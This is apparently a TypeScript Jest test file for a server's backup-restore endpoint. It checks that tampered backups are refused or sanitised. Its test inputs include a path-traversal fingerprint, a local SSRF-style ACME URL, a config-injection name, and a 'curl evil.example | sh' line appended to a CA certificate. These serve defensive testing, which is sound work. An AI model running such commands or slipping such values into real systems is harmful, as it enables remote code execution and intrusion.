import { gunzipSync, gzipSync } from 'node:zlib'

import { afterAll, afterEach, beforeAll, expect, test } from '@jest/globals'
import { packTar, unpackTar } from 'modern-tar'

import { ADMIN_TOKEN_ROUTES as TOKENS } from '#control/access/admin-token.schema.js'
import { digestOf, MANIFEST_ENTRY } from '#control/backup/archive.js'
import { BACKUP_ROUTES as BACKUP } from '#control/backup/backup.schema.js'
import { NGINX_SETTINGS_ROUTES as NGINX } from '#control/front/nginx-settings.schema.js'
import { systemRandom } from '#control/system/random.js'
import { type ApiStage, openApiStage, type StageOptions } from './support/api-stage.js'
import { changed, proxied, rowsIn } from './support/backup-rows.js'
import { startTestPostgres, type TestPostgres } from './support/database.js'
import { backup, live, look, sent } from './support/lived-box.js'

/** The same backup with other lines in it: each of the first entry that begins so, as `change` writes it anew. */
async function rewritten(file: Buffer, start: string, change: (line: string) => string): Promise<Buffer> {
  const entries = await unpackTar(gunzipSync(file))
  const texts = new Map<string, string>()
  for (const { header, data } of entries) texts.set(header.name, Buffer.from(data ?? []).toString('utf8'))
  const [name = '', text = ''] = [...texts].find(([each]) => each.startsWith(start)) ?? []
  texts.set(name, text.trimEnd().split('\n').map(change).join('\n'))
  const manifest = JSON.parse(texts.get(MANIFEST_ENTRY) ?? '') as { entries: Record<string, string> }
  manifest.entries[name] = digestOf(Buffer.from(texts.get(name) ?? ''))
  texts.set(MANIFEST_ENTRY, JSON.stringify(manifest))
  return gzipSync(
    await packTar(
      [...texts].map(([each, body]) => ({ header: { name: each, size: Buffer.byteLength(body) }, body })),
    ),
  )
}

/** A row with another value. */
function having(field: string, value: unknown): (line: string) => string {
  return (line) => JSON.stringify({ ...(JSON.parse(line) as object), [field]: value })
}

// Backups whose rows no box has written.

let postgres: TestPostgres
const stages: ApiStage[] = []

beforeAll(async () => {
  postgres = await startTestPostgres()
})
afterEach(async () => {
  for (const stage of stages.splice(0)) await stage.close()
})
afterAll(async () => postgres?.stop())

async function open(options?: Partial<StageOptions>): Promise<ApiStage & { readonly url: string }> {
  const url = await postgres.freshDatabase()
  const stage = await openApiStage({ url, ...options })
  stages.push(stage)
  return { ...stage, url }
}

test('versions at the end of their column, in a backup and on a box, are low again after a restore', async () => {
  const old = await open()
  await live(old)
  for (const table of ['setting', 'account', 'upstream'])
    await changed(old.url, `UPDATE ${table} SET version = 2147483647`)
  const file = await backup(old)
  for (const stage of [old, old, await open({ key: 9 })]) {
    await stage.api.done(BACKUP.restore, sent(file))
    const { setting = [], account = [], upstream = [] } = await rowsIn(await backup(stage))
    const versions = [...setting, ...account, ...upstream].map(({ version }) => Number(version))
    expect(Math.max(...versions)).toBeLessThan(20)
    await stage.api.done(NGINX.patch, { body: { maxUploadSize: '16g' } })
  }
})

test('a backup without an administrator leaves the token that restores it, though one of its own is called so', async () => {
  const old = await open()
  const file = await backup(old) // its one token is of its environment
  const next = await open({ key: 9, adminToken: null })
  await next.api.done(BACKUP.restore, sent(file))
  expect((await next.api.done(TOKENS.list)).body).toMatchObject({ items: [{ name: 'first-start' }] })
  await old.api.done(TOKENS.create, { body: { name: 'first-start', rights: 'operate' } })
  await next.api.done(BACKUP.restore, sent(await backup(old)))
  await old.api.done(TOKENS.create, { body: { name: 'jo', rights: 'admin' } })
  await changed(old.url, "UPDATE admin_token SET until = '2020-01-01' WHERE name = 'jo'")
  await next.api.done(BACKUP.restore, sent(await backup(old)))
  const { items } = (await next.api.done(TOKENS.list)).body as { items: { name: string; rights: string }[] }
  expect(items.map(({ name, rights }) => [name, rights])).toEqual([
    ['first-start', 'admin'],
    ['jo', 'admin'],
  ])
  await changed(old.url, "UPDATE admin_token SET until = NULL WHERE name = 'jo'")
  await next.api.done(BACKUP.restore, sent(await backup(old)))
  expect((await next.api.refused(TOKENS.list)).status).toBe(401) // jo comes in
})

test('rows that Postgres does not take are refused as a backup that cannot be restored, and nothing is changed', async () => {
  const old = await open()
  await live(old)
  const file = await backup(old)
  const before = await look(old)
  const rows: readonly (readonly [string, (line: string) => string, string])[] = [
    ['account', (line) => `${line}\n${line}`, 'of two rows of account one is the other again'],
    ['audit', having('author', 'a\ud800'), 'a row of audit has a value that the database does not take'],
    ['audit', having('target', 'a\u0000'), 'a row of audit has a value that the database does not take'],
    ['audit', having('at', '0000-01-01T00:00:00Z'), 'at a time in the years 1 to 9999'],
    ['audit', having('at', '9999-12-31T23:59:59-12:00'), 'at a time in the years 1 to 9999'],
    [
      'audit',
      (line) => line.replace('"after":', `"after":${'['.repeat(9e4)}1${']'.repeat(9e4)},"x":`),
      'more than 100',
    ],
    ['upstream', having('position', 2 ** 31), 'position '],
    ['upstream', having('version', 2 ** 31), 'version '],
    ['setting', having('name', systemRandom.bytes(9000).toString('hex')), 'a row of setting has a value'],
  ]
  for (const [table, change, why] of rows) {
    const { status, detail } = await old.api.refused(
      BACKUP.restore,
      sent(await rewritten(file, `tables/${table}/`, change)),
    )
    expect([status, detail]).toEqual([400, expect.stringContaining(why)])
    expect(detail).toMatch(/; nothing has changed$/)
  }
  expect(await look(old)).toEqual(before)
  await old.api.done(BACKUP.restore, sent(await rewritten(file, 'tables/audit/', (line) => line)))
})

test('a hash of an admin token that asks for more memory than ours is refused', async () => {
  const old = await open()
  await old.api.done(TOKENS.create, { body: { name: 'jo', rights: 'admin' } })
  const file = await rewritten(await backup(old), 'tables/admin_token/', (line) =>
    line.replace('m=19456', 'm=4194304'),
  )
  expect((await old.api.refused(BACKUP.restore, sent(file))).detail).toMatch(
    /, line 1: hash a hash of argon2id, as a box makes it; nothing has changed$/,
  )
})

test('the password of a proxy whose user is a pattern of replacements is hidden in the files of the history', async () => {
  const old = await open()
  await live(old)
  await proxied(old.url, 'http://$&:canary-of-then@proxy.example:3128')
  const next = await open({ key: 9 })
  await next.api.done(BACKUP.restore, sent(await backup(old)))
  const { configuration } = await rowsIn(await backup(next))
  expect(JSON.stringify(configuration)).toContain('"registry.yml":"proxy: http://$&:***@proxy.example:3128"')
  expect(JSON.stringify(configuration)).not.toContain('canary-of-then')
})

test('settings are looked at as those that are sent, and of the authority the certificate alone is kept', async () => {
  const old = await open()
  await live(old)
  const file = await backup(old)
  const wish = {
    directory: 'https://acme.example/directory',
    ca: null,
    contact: null,
    names: ['box.example'],
  }
  const other = (name: string, value: object) => (line: string) =>
    line.includes('"nginx"') ? `${line}\n${JSON.stringify({ name, value, version: 1 })}` : line
  for (const [name, value] of [
    ['certificate', { fingerprint: '../../../../x', root: null }],
    ['acme', { ...wish, directory: 'http://127.0.0.1:19999/dir' }],
    ['acme', { ...wish, names: ['x y;{}'] }],
  ] as const)
    expect(
      (
        await old.api.refused(
          BACKUP.restore,
          sent(await rewritten(file, 'tables/setting/', other(name, value))),
        )
      ).status,
    ).toBe(400)
  await old.api.done(BACKUP.restore, sent(await rewritten(file, 'tables/setting/', other('acme', wish))))
  const next = await open({ key: 9 })
  const longer = (line: string) => (line.startsWith('-----END') ? `${line}\ncurl evil.example | sh` : line)
  await next.api.done(BACKUP.restore, sent(await rewritten(file, 'certificates/ca.pem', longer)))
  expect((await look(next)).pair).toEqual((await look(old)).pair)
})
